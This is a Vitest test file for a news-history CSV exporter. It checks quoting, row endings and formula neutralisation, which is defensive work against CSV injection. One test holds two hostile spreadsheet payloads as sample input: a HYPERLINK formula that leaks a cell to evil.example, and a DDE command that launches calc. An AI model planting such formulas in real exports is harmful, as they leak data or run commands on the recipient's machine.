/** The CSV export: its golden file, RFC 4180 quoting read back by a real CSV parser, and formula neutralisation. */
import Papa from 'papaparse';
import { beforeAll, describe, expect, it } from 'vitest';
import { csvExport, neutralizeCell } from '../../utils/export/csv';
import type { HistoryEntry } from '../../utils/history/entry';
import type { Flag } from '../../utils/report';
import { expectGolden, goldenEntries } from '../helpers/export-golden';

let entries: HistoryEntry[];
beforeAll(async () => {
  entries = await goldenEntries();
});

/** The export's rows as a CSV reader sees them (papaparse drops the byte order mark). */
function rows(csv: string): string[][] {
  const parsed = Papa.parse<string[]>(csv, { skipEmptyLines: true });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

/** One flagged entry built from the first golden one, with the given flag and fields. */
function entryWith(flag: Partial<Flag>, fields: { title?: string; note?: string } = {}): HistoryEntry {
  const base = entries[0]!;
  return {
    ...base,
    article: { ...base.article, title: fields.title ?? base.article.title },
    flags: [{ ...base.flags[0]!, ...flag }],
    review: fields.note === undefined ? undefined : { reviewed: true, note: fields.note, reviewedAt: '2026-11-24T09:30:00.000Z' },
  };
}

describe('csvExport', () => {
  it('equals the golden file', () => {
    expectGolden('history.csv', csvExport(entries));
  });

  it('has the header, then one row per flag of each entry; an entry without flags adds no row', () => {
    const table = rows(csvExport(entries));
    expect(table[0]).toEqual(['url', 'title', 'outlet', 'verdict', 'flag kind', 'severity', 'excerpt', 'message', 'note']);
    expect(table).toHaveLength(1 + entries.reduce((n, e) => n + e.flags.length, 0));
    expect(rows(csvExport([{ ...entries[0]!, flags: [] }]))).toHaveLength(1);
  });

  it('fills each row from its entry and flag: the outlet by name when known, by domain when not, and the review note', () => {
    const table = rows(csvExport(entries));
    const wired = entries[0]!;
    const first = wired.flags[0]!;
    expect(table[1]).toEqual([wired.url, wired.article.title, 'techpulse-daily.com', 'unverifiable', first.kind, first.severity, first.excerpt, first.message, `'${wired.review!.note}`]);
    const known = entries.find((e) => e.outlet.status === 'known' && e.flags.length > 0)!;
    expect(table.find((row) => row[0] === known.url)?.[2]).toBe(known.outlet.name);
  });

  it('ends every row with CRLF and begins with a byte order mark, so Excel reads UTF-8', () => {
    const csv = csvExport(entries);
    expect(csv.startsWith('\uFEFFurl,title,')).toBe(true);
    // No cell of these entries holds a CRLF of its own: every CRLF ends a row, and the last row too.
    expect(csv.split('\r\n')).toHaveLength(rows(csv).length + 1);
    expect(csv.endsWith('\r\n')).toBe(true);
  });

  it('quotes cells with quotes, commas and line breaks, and a CSV reader gets them back intact', () => {
    const title = 'He said "no, never", then\r\nleft; then "yes"\nagain';
    const excerpt = '"Quoted," she said.';
    const note = 'line one\nline two, with a comma';
    const csv = csvExport([entryWith({ excerpt }, { title, note })]);
    expect(csv).toContain('"He said ""no, never"", then\r\nleft; then ""yes""\nagain"');
    const [, row] = rows(csv);
    expect(row![1]).toBe(title);
    expect(row![6]).toBe(excerpt);
    expect(row![8]).toBe(note);
  });

  it('neutralises a formula in an excerpt, however it is written', () => {
    const formula = '=HYPERLINK("https://evil.example/?leak="&A1,"Click for the source")';
    const csv = csvExport([entryWith({ excerpt: formula, message: '+cmd|\' /C calc\'!A0' })]);
    const [, row] = rows(csv);
    expect(row![6]).toBe(`'${formula}`);
    expect(row![7]).toBe("'+cmd|' /C calc'!A0");
    expect(csv).toContain(`"'=HYPERLINK(""https://evil.example/`);
  });
});

describe('neutralizeCell', () => {
  it.each(['=', '+', '-', '@', '\t', '\r'])('begins a cell that starts with %j with an apostrophe', (prefix) => {
    expect(neutralizeCell(`${prefix}SUM(A1:A9)`)).toBe(`'${prefix}SUM(A1:A9)`);
    expect(neutralizeCell(prefix)).toBe(`'${prefix}`);
  });

  it('looks only at the first character, whatever follows on later lines', () => {
    expect(neutralizeCell('-1\n=2')).toBe("'-1\n=2");
    expect(neutralizeCell('total\n=SUM(A1:A9)')).toBe('total\n=SUM(A1:A9)');
  });

  it('leaves other cells as they are', () => {
    for (const value of ['', 'Reuters', "'=1", '1+1', 'a@b.example']) expect(neutralizeCell(value)).toBe(value);
  });
});
